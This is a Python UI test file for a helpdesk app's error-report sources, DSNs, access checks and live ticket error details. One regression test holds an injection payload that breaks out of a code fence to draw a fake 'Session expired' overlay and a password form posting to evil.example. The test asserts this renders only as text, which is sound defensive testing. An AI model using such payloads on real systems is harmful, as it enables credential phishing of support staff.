"""Error reports in the UI: an admin creates a reporting source and gets its DSN, sees the groups and revokes the
source; the ticket page shows the collapsed Error details to staff and re-reads them live when the count moves;
other roles get nothing of it."""
from __future__ import annotations

from nicegui import ui
from nicegui.testing import User
from sqlalchemy import select

from pulse_live import db
from pulse_live.intake import error_reports as ingest
from pulse_live.models import ErrorGroup, ErrorSource, Ticket
from pulse_live.services import error_reports, error_sources
from tests.factories import queue_ids
from tests.ui.conftest import header_links, login

EVENT = {'release': 'shop@2.0.1', 'environment': 'staging', 'tags': {'region': 'eu'},
         'exception': {'values': [{'type': 'ValueError', 'value': 'bad basket', 'stacktrace': {'frames': [
             {'module': 'shop.cart', 'function': 'checkout', 'lineno': 12, 'in_app': True,
              'context_line': 'raise ValueError(basket)'}]}}]}}


async def _source(people, name: str = 'Shop backend') -> ErrorSource:
    return await error_sources.create_source(actor=people.users['admin@pulse.demo'], name=name,
                                             organisation_id=people.orgs['acme'],
                                             queue_id=(await queue_ids())['2nd level'])


async def test_admin_creates_a_source_sees_its_dsn_and_revokes_it(user: User, people) -> None:
    error_reports.reset()
    await login(user, 'admin@pulse.demo')
    await user.open(header_links(user)['Error reports'])  # in the admin's header
    await user.should_see('No source yet')
    user.find(marker='source-new').click()
    await user.should_see(marker='source-name')
    user.find(marker='source-save').click()  # nothing filled in: refused, the dialog stays
    await user.should_see('Name is required.')
    user.find(marker='source-name').type('Shop backend')
    user.find(marker='source-organisation').elements.pop().value = people.orgs['acme']
    user.find(marker='source-save').click()
    await user.should_see(marker='error-dsn')
    async with db.session() as s:
        source = (await s.execute(select(ErrorSource).where(ErrorSource.name == 'Shop backend'))).scalar_one()
    dsn = user.find(marker='error-dsn').elements.pop().value
    assert dsn == f'http://{source.public_key}@127.0.0.1:8080/{source.id}'
    await user.should_see(marker='source-row')

    info = await error_reports.source_keys.get(source.public_key)
    await error_reports.grouper.record(info, ingest.error_event(EVENT))
    await user.open('/admin/error-sources')
    await user.should_see('ValueError: bad basket')
    await user.should_see('1 groups · 1 events')

    user.find(marker='source-revoke').click()
    await user.should_see(marker='source-revoke-confirm')
    user.find(marker='source-revoke-confirm').click()
    await user.should_see('revoked 20')  # the row's badge: revoked <date>
    async with db.session() as s:
        assert not (await s.get(ErrorSource, source.id)).is_active
    error_reports.reset()


async def test_agents_and_customers_do_not_get_the_admin_page(user: User, people) -> None:
    await login(user, 'anna@pulse.demo')
    assert header_links(user) and 'Error reports' not in header_links(user)
    await user.open('/admin/error-sources')
    await user.should_not_see('New source')


async def _group_and_ticket(source: ErrorSource) -> tuple[ErrorGroup, Ticket]:
    """The source's one error group and the ticket it opened."""
    async with db.session() as s:
        group = (await s.execute(select(ErrorGroup).where(ErrorGroup.source_id == source.id))).scalar_one()
        return group, await s.get(Ticket, group.ticket_id)


async def test_ticket_page_shows_error_details_to_staff_live(user: User, people) -> None:
    error_reports.reset()
    source = await _source(people)
    info = await error_reports.source_keys.get(source.public_key)
    await error_reports.grouper.record(info, ingest.error_event(EVENT))
    group, ticket = await _group_and_ticket(source)
    await login(user, 'ben@pulse.demo')
    await user.open(f'/tickets/{ticket.reference}')
    await user.should_see(marker='error-details')
    await user.should_see('Error details')
    await user.should_see('shop@2.0.1')
    await user.should_see(marker='error-events', content='1')
    assert 'shop/cart' not in user.find(marker='error-stack').elements.pop().text  # frames shown by module name
    # a page whose socket has not connected yet misses a change (as in a browser): report until one is shown
    shown = False
    for _ in range(20):
        for _ in range(2):
            await error_reports.grouper.record(info, ingest.error_event(EVENT))
        await error_reports.grouper.flush()  # the batch: one change published, the open page re-reads the details
        async with db.session() as s:
            count = (await s.get(ErrorGroup, group.id)).count
        try:
            await user.should_see(marker='error-events', content=str(count), retries=10)
            shown = True
            break
        except AssertionError:
            continue
    assert shown and count >= 3
    await error_reports.grouper.stop()
    error_reports.reset()


async def test_a_stack_trace_is_shown_as_text_whatever_its_frames_say(user: User, people) -> None:
    # the attack (anyone with the source's public DSN): a frame's text closed the markdown fence ``ui.code`` wraps
    # its content in, and the rest became markup on the agent's page — a full-page "Session expired" overlay and a
    # form posting a password to another site
    error_reports.reset()
    source = await _source(people, 'Web shop')
    info = await error_reports.source_keys.get(source.public_key)
    hostile = ('x\n```\n\n<h1 id="pwn" style="position:fixed;inset:0">Session expired</h1>'
               '<form id="steal" action="https://evil.example/steal"><input name="password"></form>')
    event = {'exception': {'values': [{'type': 'ValueError', 'value': 'bad', 'stacktrace': {'frames': [
        {'module': 'shop.cart', 'function': 'checkout', 'lineno': 12, 'in_app': True, 'context_line': hostile},
        {'module': 'shop.x```<b>', 'function': '<img src=x>', 'lineno': 1}]}}]}}
    await error_reports.grouper.record(info, ingest.error_event(event))
    await error_reports.grouper.flush()
    _, ticket = await _group_and_ticket(source)
    await login(user, 'ben@pulse.demo')
    await user.open(f'/tickets/{ticket.reference}')
    await user.should_see(marker='error-stack')
    stack = user.find(marker='error-stack').elements.pop()
    assert isinstance(stack, ui.label) and '<h1 id="pwn"' in stack.text and '<img src=x>' in stack.text  # as text
    for element in user.client.elements.values():  # nowhere as markup
        markup = str(element.props.get('innerHTML', '')) + str(getattr(element, 'content', ''))
        assert '<h1 id="pwn"' not in markup and 'evil.example/steal"' not in markup, element
    await error_reports.grouper.stop()
    error_reports.reset()


async def test_a_ticket_not_made_from_error_reports_has_no_error_details(user: User, people) -> None:
    from tests.factories import make_ticket
    ticket = await make_ticket(people)
    await login(user, 'ben@pulse.demo')
    await user.open(f'/tickets/{ticket.reference}')
    await user.should_see(ticket.reference)
    await user.should_not_see('Error details')
